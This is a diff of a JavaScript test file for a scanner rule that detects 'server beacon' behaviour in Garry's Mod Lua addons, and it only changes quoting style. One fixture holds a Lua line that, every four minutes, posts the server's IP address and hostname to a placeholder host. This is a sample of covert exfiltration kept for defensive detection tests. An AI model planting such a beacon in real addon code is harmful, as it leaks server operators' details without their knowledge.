@@ -4,13 +4,19 @@ import { rule } from './server_beacon.js';
 import { check, RANK, worst } from './ruleTesting.js';
 
 describe('server_beacon', () => {
-  it("server address posted on a timer", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "timer.Create(\"b\", 240, 0, function() http.Post(\"https://a.invalid/_/api.php\", {ip = game.GetIPAddress(), name = GetHostName()}) end)"});
+  it('server address posted on a timer', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'timer.Create("b", 240, 0, function() http.Post("https://a.invalid/_/api.php", {ip = game.GetIPAddress(), name = GetHostName()}) end)',
+    });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
-  it("version check", () => {
-    const findings = check(rule, {"lua/autorun/server/sv_x.lua": "http.Fetch(\"https://raw.invalid/v.txt\", function(b) print(tonumber(b)) end)"});
+  it('version check', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'http.Fetch("https://raw.invalid/v.txt", function(b) print(tonumber(b)) end)',
+    });
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
 });
